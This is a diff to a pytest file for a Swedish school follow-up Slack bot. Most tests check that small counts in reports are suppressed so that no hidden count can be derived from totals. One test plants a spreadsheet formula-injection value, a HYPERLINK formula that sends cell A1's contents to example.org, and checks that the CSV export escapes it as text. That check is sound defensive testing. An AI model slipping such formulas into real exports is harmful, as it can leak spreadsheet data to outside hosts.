@@ -9,7 +9,8 @@ import pytest
 
 from bot.app import Bryggan
 from bot.clock import FakeClock
-from bot.followup import exports, suppress
+from bot.followup import Published, exports
+from bot.followup.suppress import HIDDEN, SECONDARY, Protection
 from bot.settings import Settings
 from localslack import Driver, LocalSlack, Workspace
 from localslack.models import Message
@@ -29,6 +30,7 @@ from storage.models import (
     SchoolKind,
 )
 from tests.conftest import STOCKHOLM
+from tests.disclosure import derivable
 from tests.slackbed import CHANNELS, PEOPLE, TEAM, test_settings
 
 SARA, OMAR, ADMIN = PEOPLE.sara, PEOPLE.omar, PEOPLE.admin
@@ -299,30 +301,39 @@ def test_continuity_counts_covered_days_a_vacancy_a_change_and_absences_covered_
     assert (total.days, total.covered_days, total.contact_changes, total.absences) == (164, 137, 1, 3)
 
 
-def test_small_counts_are_hidden_per_school_and_exact_for_the_municipality(
+def test_small_counts_are_hidden_and_no_hidden_count_can_be_worked_out(
     bryggan: Bryggan, seeded: tuple[int, int]
 ) -> None:
     report = _report(bryggan)
-    a, b = (suppress.school(s) for s in report.schools)
-    assert a.total == 7
-    assert a.by_area == {
-        "franvaro": "<5",
-        "psykisk_ohalsa": "<5",
-        "vald": "<5",
-        "annat": "<5",
-        "omsorgssvikt": "<5",
-    }
-    assert a.recommended_report == "<5"
-    assert a.ack_median_hours == 3.5
-    assert (b.total, b.by_area, b.by_grade_band, b.by_outcome, b.ack_median_hours) == (
-        "<5",
-        None,
-        None,
-        None,
-        None,
+    published = Published(report)
+    a, b = (published.school(s) for s in report.schools)
+    # Ekholmsskolan's 2 = 9 − 7 under the old rule: Berzeliusskolan's 7 is hidden now, the 9 stays.
+    assert (a.total, b.total) == (SECONDARY, HIDDEN)
+    assert a.by_area is not None
+    assert (a.by_area["franvaro"], a.by_area["vald"], a.by_area["missbruk"]) == (HIDDEN, HIDDEN, 0)
+    assert a.recommended_report == HIDDEN
+    assert a.ack_median_hours == 3.5  # times of five or more acknowledged stay
+    assert (b.by_area, b.by_grade_band, b.by_outcome, b.ack_median_hours) == (None, None, None, None)
+    everyone = published.municipality
+    assert (everyone.total, everyone.recommended_report, everyone.by_area["franvaro"]) == (9, 2, 4)
+    assert everyone.acknowledged == 8
+    # Exact: Ekholmsskolan's breakdown is withheld, 0–4 for all a reader knows, so 2 − "<5" stays open.
+    assert (everyone.by_area["vald"], everyone.by_grade_band["4–6"], everyone.by_outcome["hanvisad"]) == (
+        2,
+        3,
+        1,
     )
-    everyone = suppress.school(report.municipality, exact=True)
-    assert (everyone.total, everyone.by_area["vald"], everyone.recommended_report) == (9, 2, 2)
+    assert everyone.recommended_report_share == pytest.approx(2 / 6)
+    assert published.protection.ranged == frozenset()
+    assert derivable(published.protection) == []
+    assert derivable(Protection(published.protection.table, _only_small(published))) != []  # the old rule
+
+
+def _only_small(published: Published) -> dict[object, str]:
+    cells = published.protection.table.cells
+    return {k: HIDDEN for k, c in cells.items() if 0 < c.value < 5} | dict.fromkeys(
+        published.protection.table.withheld, SECONDARY
+    )
 
 
 def test_the_csv_opens_in_swedish_excel(bryggan: Bryggan, seeded: tuple[int, int]) -> None:
@@ -339,6 +350,7 @@ def test_the_csv_opens_in_swedish_excel(bryggan: Bryggan, seeded: tuple[int, int
     assert berzelius[column["ack_median_hours"]] == "3,5"  # decimal comma
     assert berzelius[column["within_target_share"]] == "71,4"
     assert berzelius[column["area:franvaro"]] == "<5"
+    assert berzelius[column["consultations"]] == "x"  # else 9 − 7 gives Ekholmsskolan's 2
     assert ekholm[column["consultations"]] == "<5"
     assert ekholm[column["area:franvaro"]] == "–"  # withheld: fewer than five cases
     assert everyone[:2] == ["Hela kommunen", "9"]
@@ -456,3 +468,83 @@ def test_the_admins_home_shows_the_current_terms_key_figures_and_others_do_not(
     served.app_home_opened(user=SARA)
     sara = workspace.wait_for(lambda ws: ws.home_of(SARA))
     assert not any("Uppföljning" in b.get("text", {}).get("text", "") for b in sara["blocks"])
+
+
+FORMULA = '=HYPERLINK("http://example.org/?"&A1;"Öppna")'
+
+
+def test_a_formula_like_school_name_stays_text_in_the_report_csv(
+    bryggan: Bryggan, seeded: tuple[int, int], database_url: str, tmp_path: Path
+) -> None:
+    from sqlalchemy import update
+
+    from tests.e2e.test_admin_cli import _bryggan
+
+    with bryggan.sessions.begin() as session:
+        session.execute(update(School).where(School.id == seeded[0]).values(name=FORMULA))
+    done = _bryggan(
+        tmp_path, database_url, "report", "--term", "HT2026", "--format", "csv", "--output", "ht.csv"
+    )
+    assert done.returncode == 0, done.stderr
+    text = (tmp_path / "ht.csv").read_bytes().decode("utf-8-sig")
+    # Quoted for the `;` inside it, and a leading apostrophe so Excel shows it as text.
+    assert '\r\n"\'=HYPERLINK(""http://example.org/?""&A1;""Öppna"")";' in text
+    assert "\r\n=HYPERLINK" not in text
+    assert '\r\n"=HYPERLINK' not in text
+
+
+def test_an_empty_database_has_nothing_to_report_and_a_term_ahead_has_not_begun(
+    bryggan: Bryggan, database_url: str, tmp_path: Path
+) -> None:
+    from tests.e2e.test_admin_cli import _bryggan
+
+    empty = _bryggan(tmp_path, database_url, "report", "--format", "csv")
+    assert empty.returncode == 2
+    assert "inget att rapportera" in empty.stderr
+    assert "flera arbetsytor" not in empty.stderr
+    _seed(bryggan)
+    ahead = _bryggan(tmp_path, database_url, "report", "--term", "HT2099", "--format", "md")
+    assert ahead.returncode == 2
+    assert "HT2099 har inte börjat än (den börjar 2099-08-01)" in ahead.stderr
+    assert ahead.stdout == ""
+
+
+def test_uppfoljning_for_a_term_not_begun_says_so_and_sends_no_charts(
+    served: Driver, workspace: Workspace
+) -> None:
+    reply = _reply(served, workspace, ADMIN, "VT2027")
+    assert "VT2027 har inte börjat än (den börjar 2027-01-01)" in reply.text
+    assert "2027-01-01–2026" not in reply.text  # no inverted period
+    _reply(served, workspace, ADMIN, "HT2026")  # after it, the charts of a term that has begun arrive
+    uploads = workspace.wait_for(lambda ws: [m for m in ws.dm_messages_to(ADMIN) if m.files] or None)
+    assert [m.text for m in uploads] == ["Diagram för HT2026."]
+
+
+def test_the_demo_term_gives_no_hidden_count_away_to_the_admin_or_to_a_contact_of_two_schools(
+    bryggan: Bryggan, clock: FakeClock
+) -> None:
+    from bot.console import demo
+    from storage.schools import list_schools
+
+    demo.seed(bryggan.sessions, clock, bryggan.settings.zone)
+    followup = bryggan.services.followup
+    with bryggan.sessions.begin() as session:
+        ids = {s.name: s.id for s in list_schools(session, team_id=demo.TEAM_ID)}
+    term = followup.term(None)
+    everything = followup.report(demo.TEAM_ID, term)
+    saras = followup.report(demo.TEAM_ID, term, only={ids["Berzeliusskolan"], ids["Ekholmsskolan"]})
+    for report in (everything, saras):
+        published = Published(report)
+        assert _only_small(published), "the demo has small counts to hide"
+        assert derivable(Protection(published.protection.table, _only_small(published))) != []  # old rule
+        assert derivable(published.protection) == []
+    table = exports.rows(everything, municipality_name="Hela kommunen")
+    berzelius, ekholm, kunskapsbron, whole = table
+    assert ekholm["consultations"] == HIDDEN
+    # Berzeliusskolan 6, Ekholmsskolan <5, Kunskapsbron 0, whole municipality 7 gave Ekholm's 1 away;
+    # now Kunskapsbron's 0 is "<5" too (true), and 7 − 6 = 1 is the two schools' together.
+    assert (berzelius["consultations"], kunskapsbron["consultations"], whole["consultations"]) == (
+        6,
+        HIDDEN,
+        7,
+    )
